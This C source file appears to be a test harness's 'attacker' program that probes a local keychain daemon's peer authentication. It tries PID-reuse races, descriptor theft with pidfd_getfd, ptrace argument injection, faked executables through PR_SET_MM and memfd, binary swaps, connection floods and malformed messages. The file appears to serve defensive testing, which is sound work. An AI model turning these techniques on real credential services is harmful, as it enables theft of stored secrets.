// A hostile program: its first argument selects one attack, at the socket of keychaind unless stated otherwise. It prints the outcome in one
// line: `value TEXT`, `refused REASON`, `nothing`, `closed …`. Each attack ends by itself.
#include "attacker.h"

#define KEYCHAIN "/run/vauban/keychain"

// wait ACCOUNT: connects, prints `ready`, and is inspected; then it sends the greeting and a correct request.
static void wait_and_ask(const char *account) {
    static struct message hello;
    int connection = connect_to(KEYCHAIN);
    say("ready");
    if (receive_message(connection, &hello)) say("closed before a word");
    else if (greet(connection, &hello, 0, getpid(), 0)) say("closed at the greeting");
    else request(connection, account, 0);
}

// get ACCOUNT: sends a request as itself, under whatever name it was started.
static void get(const char *account) { request(introduce(KEYCHAIN, 0), account, 0); }

// hold: opens a connection and keeps it; prints its descriptor and process number.
static void hold(void) {
    printf("%d %d\n", introduce(KEYCHAIN, 0), getpid());
    fflush(stdout);
    getchar();
}

// inherit ACCOUNT: a child uses the connection that its parent opened.
static void inherit(const char *account) {
    int connection = introduce(KEYCHAIN, 0);
    if (!fork()) { request(connection, account, 0); _exit(0); }
    wait(NULL);
}

// pass ACCOUNT: the connection is sent to another process, which uses it.
static void pass(const char *account) {
    int pair[2], descriptor = -1;
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) fail("socketpair");
    if (!fork()) {
        uint8_t front[9];
        if (read_all(pair[1], front, 9, &descriptor)) _exit(1);
        request(descriptor, account, 0);
        _exit(0);
    }
    int connection = introduce(KEYCHAIN, 0);
    struct der d;
    der_begin(&d);
    der_byte(&d, 0);
    if (send_message(pair[0], &d, connection, 0)) fail("pass");
    wait(NULL);
}

// Waits for the end of file on a pipe whose other end closes when its holder executes a program.
static void until_executed(int ends[2]) { char byte; close(ends[1]); while (read(ends[0], &byte, 1) > 0) {} }

// late ACCOUNT PROGRAM…: sends a request, and executes another program before the reply, which a helper reads.
static void late(const char *account, char **program) {
    int ends[2];
    if (pipe2(ends, O_CLOEXEC)) fail("pipe");
    int connection = introduce(KEYCHAIN, 0);
    pid_t self = getpid();
    if (!fork()) {
        until_executed(ends);
        tell_answer(connection);
        kill(self, SIGKILL);
        _exit(0);
    }
    struct der d;
    ask_for(&d, account);
    if (send_message(connection, &d, -1, 0)) fail("send");
    execv(program[0], program);
    fail(program[0]);
}

// early ACCOUNT PROGRAM…: connects, and executes another program before it is inspected; a helper with the same connection then sends
// in its place. With `forge` the helper names the other process as the sender. It prints `ready` when the inspection may begin.
static void early(const char *account, char **program, int forge) {
    int ends[2];
    if (pipe2(ends, O_CLOEXEC)) fail("pipe");
    int connection = connect_to(KEYCHAIN);
    pid_t other = getpid();
    if (!fork()) {
        static struct message hello;
        until_executed(ends);
        say("ready");
        if (receive_message(connection, &hello)) say("closed before a word");
        else if (greet(connection, &hello, 0, other, forge ? other : 0)) say("closed at the greeting");
        else request(connection, account, forge ? other : 0);
        kill(other, SIGKILL);
        _exit(0);
    }
    execv(program[0], program);
    fail(program[0]);
}

// relay ACCOUNT PROGRAM…: the same with a program that copies its input to its output, so that this program is the sender.
static void relay(const char *account, char **program) {
    int ends[2], words[2];
    if (pipe2(ends, O_CLOEXEC) || pipe(words)) fail("pipe");
    int connection = connect_to(KEYCHAIN);
    pid_t other = getpid();
    if (!fork()) {
        static struct message hello;
        int pair[2];
        close(words[0]);
        until_executed(ends);
        say("ready");
        if (receive_message(connection, &hello)) { say("closed before a word"); _exit(0); }
        // The messages are created on a pair of sockets and go through the pipe, which cannot carry descriptors.
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) || greet(pair[0], &hello, 0, 0, 0)) fail("greeting");
        struct der d;
        ask_for(&d, account);
        send_message(pair[0], &d, -1, 0);
        uint8_t bytes[4096];
        ssize_t count = read(pair[1], bytes, sizeof bytes);
        while (recv(pair[1], bytes + count, sizeof bytes - count, MSG_PEEK | MSG_DONTWAIT) > 0) count += read(pair[1], bytes + count, sizeof bytes - count);
        if (write(words[1], bytes, count) != count) fail("relay");
        tell_answer(connection);
        kill(other, SIGKILL);
        _exit(0);
    }
    dup2(words[0], 0);
    dup2(connection, 1);
    close(words[1]);
    execv(program[0], program);
    fail(program[0]);
}

static void become(uid_t user) {
    if (setresgid(user, user, user) && setresgid(65534, 65534, 65534)) fail("group");
    if (setresuid(user, user, user)) fail("user");
    prctl(PR_SET_DUMPABLE, 1);
}

// Creates a child with the process number of an earlier process. Root can choose the next number; other users have to create processes until
// the numbers repeat.
static pid_t child_numbered(pid_t number) {
    for (int attempt = 0; attempt < 2000; attempt++) {
        int file = open("/proc/sys/kernel/ns_last_pid", O_WRONLY | O_CLOEXEC);
        if (file < 0 || dprintf(file, "%d", number - 1) < 0) fail("ns_last_pid");
        close(file);
        pid_t child = fork();
        if (child == 0 && getpid() == number) return 0;
        if (child == 0) _exit(0);
        if (child == number) return child;
        waitpid(child, NULL, 0);
    }
    say("no such number");
    exit(77);
}

// number USER ACCOUNT PROGRAM…: the connected process has ended before it is inspected, and another program has its number.
static void number_before(uid_t user, const char *account, char **program) {
    static struct message hello;
    int connection = socket(AF_UNIX, SOCK_STREAM, 0), on = 1;
    setsockopt(connection, SOL_SOCKET, SO_PASSCRED, &on, sizeof on);
    struct timeval time = {.tv_sec = 60};
    setsockopt(connection, SOL_SOCKET, SO_RCVTIMEO, &time, sizeof time);
    struct sockaddr_un address = {.sun_family = AF_UNIX, .sun_path = KEYCHAIN};
    pid_t first = fork();
    if (!first) { become(user); _exit(connect(connection, (struct sockaddr *)&address, sizeof address)); }
    waitpid(first, NULL, 0);
    int ends[2];
    if (pipe2(ends, O_CLOEXEC)) fail("pipe");
    pid_t second = child_numbered(first);
    if (!second) { become(user); execv(program[0], program); fail(program[0]); }
    until_executed(ends);
    say("ready");
    if (receive_message(connection, &hello)) say("closed before a word");
    else if (greet(connection, &hello, 0, second, 0)) say("closed at the greeting");
    else request(connection, account, 0);
    kill(second, SIGKILL);
}

// successor USER ACCOUNT HOLDER: takes a program's connection, ends the program, and continues in a process with the same number.
static void successor(uid_t user, const char *account, char *holder) {
    int words[2], keep[2], descriptor, named;
    if (pipe(words) || pipe(keep)) fail("pipe");
    pid_t first = fork();
    if (!first) {
        dup2(keep[0], 0); dup2(words[1], 1);
        close(keep[1]);
        become(user);
        execl(holder, holder, "hold", NULL);
        fail(holder);
    }
    FILE *lines = fdopen(words[0], "r");
    if (!lines || fscanf(lines, "%d %d", &descriptor, &named) != 2) { say("no holder"); exit(1); }
    int process = (int)syscall(SYS_pidfd_open, first, 0);
    int taken = (int)syscall(SYS_pidfd_getfd, process, descriptor, 0);
    if (taken < 0) fail("pidfd_getfd");
    kill(first, SIGKILL);
    waitpid(first, NULL, 0);
    pid_t second = child_numbered(first);
    if (!second) { become(user); request(taken, account, 0); _exit(0); }
    waitpid(second, NULL, 0);
}

// take PID DESCRIPTOR ACCOUNT: takes a connection from another process and sends a request on it.
static void take(pid_t other, int descriptor, const char *account) {
    int taken = (int)syscall(SYS_pidfd_getfd, (int)syscall(SYS_pidfd_open, other, 0), descriptor, 0);
    if (taken < 0) { printf("not taken %d\n", errno); return; }
    request(taken, account, 0);
}

// inject FROM TO PROGRAM…: starts a program under a trace, changes its arguments, and detaches before it sends its request.
static void inject(const char *from, const char *to, char **program) {
    pid_t child = fork();
    if (!child) { ptrace(PTRACE_TRACEME, 0, 0, 0); execv(program[0], program); fail(program[0]); }
    int status;
    waitpid(child, &status, 0);
    char path[64], memory[8192];
    snprintf(path, sizeof path, "/proc/%d/stat", child);
    FILE *file = fopen(path, "r");
    // Field 48 is where its arguments begin.
    unsigned long start = 0;
    if (!file || fscanf(file, "%*d (%*[^)]) %*c") < 0) fail("stat");
    for (int field = 4; field <= 48; field++) if (fscanf(file, " %lu", &start) != 1 && fscanf(file, "%*s") < 0) fail("stat");
    snprintf(path, sizeof path, "/proc/%d/mem", child);
    int target = open(path, O_RDWR);
    if (target < 0) { printf("not traced %d\n", errno); kill(child, SIGKILL); return; }
    ssize_t count = pread(target, memory, sizeof memory, start);
    if (count <= 0) count = pread(target, memory, 256, start);
    char *found = count > 0 ? memmem(memory, count, from, strlen(from) + 1) : NULL;
    if (!found || pwrite(target, to, strlen(from), start + (found - memory)) < 0) fail("inject");
    ptrace(PTRACE_DETACH, child, 0, 0);
    waitpid(child, &status, 0);
}

static int wait_forever(void *unused) { (void)unused; for (;;) pause(); return 0; }

// threaded ACCOUNT: sends a request as itself, with a second thread that only waits.
static void threaded(const char *account) {
    static char stack[65536];
    if (clone(wait_forever, stack + sizeof stack, CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM, NULL) < 0) fail("clone");
    get(account);
}

// shadow PROGRAM…: starts a program under a trace, and detaches from its first thread when it creates a second one, which stays traced.
static void shadow(char **program) {
    pid_t child = fork(), other;
    int status;
    unsigned long thread;
    if (!child) { ptrace(PTRACE_TRACEME, 0, 0, 0); execv(program[0], program); fail(program[0]); }
    waitpid(child, &status, 0);
    ptrace(PTRACE_SETOPTIONS, child, 0, PTRACE_O_TRACECLONE);
    do ptrace(PTRACE_CONT, child, 0, 0); while (waitpid(child, &status, 0) == child && WIFSTOPPED(status) && status >> 8 != (SIGTRAP | PTRACE_EVENT_CLONE << 8));
    if (!WIFSTOPPED(status) || ptrace(PTRACE_GETEVENTMSG, child, 0, &thread)) fail("thread");
    // The second thread begins stopped.
    waitpid((pid_t)thread, &status, __WALL);
    if (ptrace(PTRACE_CONT, (pid_t)thread, 0, 0) || ptrace(PTRACE_DETACH, child, 0, 0)) fail("let go");
    while ((other = waitpid(-1, &status, __WALL)) > 0) if (WIFSTOPPED(status)) ptrace(PTRACE_CONT, other, 0, WSTOPSIG(status));
}

// memory ACCOUNT NAME: executes itself from memory, without a file other than an anonymous one with this name.
static void memory(const char *account, const char *name) {
    int self = open("/proc/self/exe", O_RDONLY), copy = (int)syscall(SYS_memfd_create, name, 0);
    char bytes[65536];
    for (ssize_t count; (count = read(self, bytes, sizeof bytes)) > 0;) if (write(copy, bytes, count) != count) fail("copy");
    char *arguments[] = {"/usr/local/games/bin/mail", "get", (char *)account, NULL}, *none[] = {NULL};
    fexecve(copy, arguments, none);
    fail("fexecve");
}

// Replaces every mapping of this program's file by a copy in anonymous memory.
static void leave_own_file(void) {
    char own[4096], line[4352], rights[5];
    uintptr_t start, end, pieces[16][3];
    int count = 0;
    ssize_t length = readlink("/proc/self/exe", own, sizeof own - 2);
    FILE *maps = fopen("/proc/self/maps", "r");
    if (length < 0 || !maps) fail("maps");
    strcpy(own + length, "\n");
    // By the name alone, since another mount namespace has other folders.
    const char *name = strrchr(own, '/');
    while (fgets(line, sizeof line, maps) && count < 16) {
        if (!strstr(line, name) || sscanf(line, "%lx-%lx %4s", &start, &end, rights) != 3) continue;
        pieces[count][0] = start; pieces[count][1] = end - start;
        pieces[count++][2] = (rights[0] == 'r' ? PROT_READ : 0) | (rights[1] == 'w' ? PROT_WRITE : 0) | (rights[2] == 'x' ? PROT_EXEC : 0);
    }
    fclose(maps);
    for (int index = 0; index < count; index++) {
        uintptr_t *piece = pieces[index];
        void *copy = mmap(NULL, piece[1], PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        memcpy(copy, (void *)piece[0], piece[1]);
        if (mprotect(copy, piece[1], (int)piece[2]) || mremap(copy, piece[1], piece[1], MREMAP_MAYMOVE | MREMAP_FIXED, (void *)piece[0]) == MAP_FAILED) fail("move");
    }
}

// In a separate user namespace, a child that shares the memory of this process makes the kernel report another file as its executable.
static int name_executable(void *argument) {
    unsigned long stat[52] = {0};
    FILE *file = fopen("/proc/self/stat", "r");
    if (!file || fscanf(file, "%*d (%*[^)]) %*c") < 0) return 1;
    for (int field = 4; field < 52; field++) if (fscanf(file, " %lu", &stat[field]) != 1 && fscanf(file, "%*s") < 0) return 2;
    struct prctl_mm_map map = {
        .start_code = stat[26], .end_code = stat[27], .start_data = stat[45], .end_data = stat[46], .start_brk = stat[47],
        .brk = (uintptr_t)sbrk(0), .start_stack = stat[28], .arg_start = stat[48], .arg_end = stat[49], .env_start = stat[50],
        .env_end = stat[51], .exe_fd = *(unsigned *)argument,
    };
    return prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) ? errno : 0;
}

// masquerade ACCOUNT PROGRAM: sends a request from a process for which the kernel reports another executable, in the initial namespaces.
static void masquerade(const char *account, const char *program) {
    static char stack[65536];
    leave_own_file();
    int file = open(program, O_RDONLY | O_CLOEXEC), status;
    if (file < 0 || mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, file, 0) == MAP_FAILED) fail(program);
    pid_t child = clone(name_executable, stack + sizeof stack, CLONE_VM | CLONE_NEWUSER | SIGCHLD, &file);
    if (child < 0 || waitpid(child, &status, 0) != child || status) { printf("not named %d\n", child < 0 ? errno : status); return; }
    get(account);
}

// exchange ACCOUNT FILE CONTENT: sends a request after the file behind its executable on an overlay was overwritten with another program.
static void exchange(const char *account, const char *file, const char *content) {
    char bytes[65536];
    leave_own_file();
    int from = open(content, O_RDONLY | O_CLOEXEC), to = open(file, O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (from < 0 || to < 0) { printf("not written %d\n", errno); return; }
    for (ssize_t count; (count = read(from, bytes, sizeof bytes)) > 0;) if (write(to, bytes, count) != count) fail(file);
    get(account);
}

// swap ACCOUNT TARGET: its path leads to another program during the request.
static void swap(const char *account, const char *target, const char *own) {
    char moved[4096];
    snprintf(moved, sizeof moved, "%s.moved", own);
    if (rename(own, moved) || symlink(target, own)) fail("swap");
    get(account);
    unlink(own);
    if (rename(moved, own)) fail("swap back");
}

// stand PROGRAM ARGUMENT… -- COMMAND…: a process forks a child, executes PROGRAM, and then the child executes the command; so the parent of the
// command line is another program when it is inspected.
static void stand(char **words) {
    int executed[2], ended[2], split = 0;
    char byte;
    while (words[split] && strcmp(words[split], "--")) split++;
    if (!words[split] || pipe2(executed, O_CLOEXEC) || pipe2(ended, O_CLOEXEC)) exit(64);
    words[split] = NULL;
    pid_t stands = fork();
    if (!stands) {
        if (!fork()) {
            until_executed(executed);
            // Only the command has this end open, until it ends.
            fcntl(ended[1], F_SETFD, 0);
            execv(words[split + 1], words + split + 1);
            fail(words[split + 1]);
        }
        execv(words[0], words);
        fail(words[0]);
    }
    close(executed[1]);
    close(ended[1]);
    while (read(ended[0], &byte, 1) > 0) {}
    kill(stands, SIGKILL);
    waitpid(stands, NULL, 0);
}

// flood COUNT: keeps as many greeted connections as it gets. overflow COUNT: the same with more than it can keep, so it waits until one was
// refused, or closed to make room for a later one, possibly after it was greeted. Both print how many are open.
static void flood(int count, int until_closed) {
    static struct message hello;
    struct pollfd *connections = calloc(count, sizeof *connections);
    int standing = count;
    for (int index = 0; index < count; index++) connections[index] = (struct pollfd){.fd = connect_to(KEYCHAIN), .events = POLLRDHUP};
    for (int index = 0; index < count; index++)
        if (receive_message(connections[index].fd, &hello) || greet(connections[index].fd, &hello, 0, getpid(), 0)) {
            connections[index].fd = -1;
            standing--;
        }
    if (poll(connections, count, until_closed && standing == count ? -1 : 0) < 0) fail("poll");
    for (int index = 0; index < count; index++) if (connections[index].revents) standing--;
    printf("flooding %d\n", standing);
    fflush(stdout);
    getchar();
}

// choke: sends requests without end, and never reads the replies.
static void choke(const char *account) {
    int connection = introduce(KEYCHAIN, 0), sent = 0;
    struct der d;
    ask_for(&d, account);
    fcntl(connection, F_SETFL, O_NONBLOCK);
    struct pollfd poller = {.fd = connection, .events = POLLOUT};
    // Full, and nothing was read for a second: the other side waits for this one.
    while (poll(&poller, 1, 1000) == 1 && !send_message(connection, &d, -1, 0)) sent++;
    printf("choking %d\n", sent);
    fflush(stdout);
    getchar();
}

// Writes raw bytes, with so many descriptors.
static void write_raw(int connection, const uint8_t *bytes, size_t count, int descriptors) {
    _Alignas(struct cmsghdr) uint8_t control[CMSG_SPACE(8 * sizeof(int))] = {0};
    struct iovec part = {(void *)(uintptr_t)bytes, count};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1};
    if (descriptors) {
        message.msg_control = control;
        message.msg_controllen = CMSG_SPACE(descriptors * sizeof(int));
        struct cmsghdr *one = CMSG_FIRSTHDR(&message);
        one->cmsg_level = SOL_SOCKET; one->cmsg_type = SCM_RIGHTS; one->cmsg_len = CMSG_LEN(descriptors * sizeof(int));
        for (int index = 0; index < descriptors; index++) memcpy(CMSG_DATA(one) + index * sizeof(int), &(int){0}, sizeof(int));
    }
    if (sendmsg(connection, &message, MSG_NOSIGNAL) != (ssize_t)count) fail("write");
}

// garbage KIND ACCOUNT: sends a malformed message of this kind; `sound` is a valid one, written in the same way.
static void garbage(const char *kind, const char *account) {
    int connection = introduce(KEYCHAIN, 0), descriptors = 0;
    struct der d;
    ask_for(&d, account);
    uint8_t bytes[4104] = {0, 0, der_size(&d) >> 8, der_size(&d) & 255, 0, 0, 0, 0}, *body = bytes + 8;
    size_t count = 8 + der_size(&d);
    memcpy(body, d.bytes + d.start, der_size(&d));
    // The body begins with 30 81 LENGTH or 30 LENGTH, then 02 01 VERSION.
    uint8_t *version = body + (body[1] & 0x80 ? 3 : 2);
#define KIND(name) (!strcmp(kind, name))
    if (KIND("header")) { memset(bytes, 255, 4); count = 8; }
    else if (KIND("secret")) memset(bytes + 4, 255, 4);
    else if (KIND("empty")) { memset(bytes, 0, 8); count = 8; }
    else if (KIND("tag")) body[0] = 0x31;
    else if (KIND("length")) body[1] += 5;
    else if (KIND("version")) version[2] = 2;
    else if (KIND("trailing")) { bytes[count++] = 5; bytes[count++] = 0; bytes[3] += 2; }
    else if (KIND("value")) { bytes[7] = 3; memcpy(bytes + count, "abc", 3); count += 3; }
    else if (KIND("descriptor")) descriptors = 1;
    else if (KIND("descriptors")) descriptors = 8;
    else if (KIND("text")) {
        // An account that is not UTF-8: its last byte is the last of its text.
        uint8_t *place = memmem(bytes, count, account, strlen(account));
        if (!place) fail("text");
        *place = 0xFF;
    } else if (!KIND("sound")) exit(64);
    write_raw(connection, bytes, count, descriptors);
    tell_answer(connection);
}

// dial SOCKET ROLE: whether a socket accepts it in the role that it claims.
static void dial(const char *path, int role) {
    static struct message message;
    int connection = connect_to(path);
    if (receive_message(connection, &message)) { say("closed before a word"); return; }
    if (greet(connection, &message, role, getpid(), 0)) { say("closed at the greeting"); return; }
    struct pollfd poller = {.fd = connection, .events = POLLIN};
    say(poll(&poller, 1, 3000) == 1 && receive_message(connection, &message) ? "closed after the greeting" : "let in");
}

int main(int count, char **words) {
    setlinebuf(stdout);
    // Only ends a test that hangs.
    const char *seconds = getenv("hang_seconds");
    alarm(seconds ? atoi(seconds) : 600);
    const char *word = count > 1 ? words[1] : "";
#define IS(name, least) (!strcmp(word, name) && count >= 2 + least)
    if (IS("get", 1)) get(words[2]);
    else if (IS("lie", 1)) { prctl(PR_SET_NAME, "mail"); get(words[2]); }
    else if (IS("hold", 0)) hold();
    else if (IS("inherit", 1)) inherit(words[2]);
    else if (IS("pass", 1)) pass(words[2]);
    else if (IS("late", 2)) late(words[2], words + 3);
    else if (IS("early", 2)) early(words[2], words + 3, 0);
    else if (IS("forge", 2)) early(words[2], words + 3, 1);
    else if (IS("relay", 2)) relay(words[2], words + 3);
    else if (IS("number", 3)) number_before(atoi(words[2]), words[3], words + 4);
    else if (IS("successor", 3)) successor(atoi(words[2]), words[3], words[4]);
    else if (IS("take", 3)) take(atoi(words[2]), atoi(words[3]), words[4]);
    else if (IS("inject", 3)) inject(words[2], words[3], words + 4);
    else if (IS("threaded", 1)) threaded(words[2]);
    else if (IS("shadow", 1)) shadow(words + 2);
    else if (IS("memory", 2)) memory(words[2], words[3]);
    else if (IS("masquerade", 2)) masquerade(words[2], words[3]);
    else if (IS("exchange", 3)) exchange(words[2], words[3], words[4]);
    else if (IS("swap", 2)) swap(words[2], words[3], words[0]);
    else if (IS("stand", 3)) stand(words + 2);
    else if (IS("flood", 1)) flood(atoi(words[2]), 0);
    else if (IS("overflow", 1)) flood(atoi(words[2]), 1);
    else if (IS("choke", 1)) choke(words[2]);
    else if (IS("garbage", 2)) garbage(words[2], words[3]);
    else if (IS("wait", 1)) wait_and_ask(words[2]);
    else if (IS("dial", 2)) dial(words[2], atoi(words[3]));
    else { fprintf(stderr, "attacker: what is %s?\n", word); return 64; }
    return 0;
}
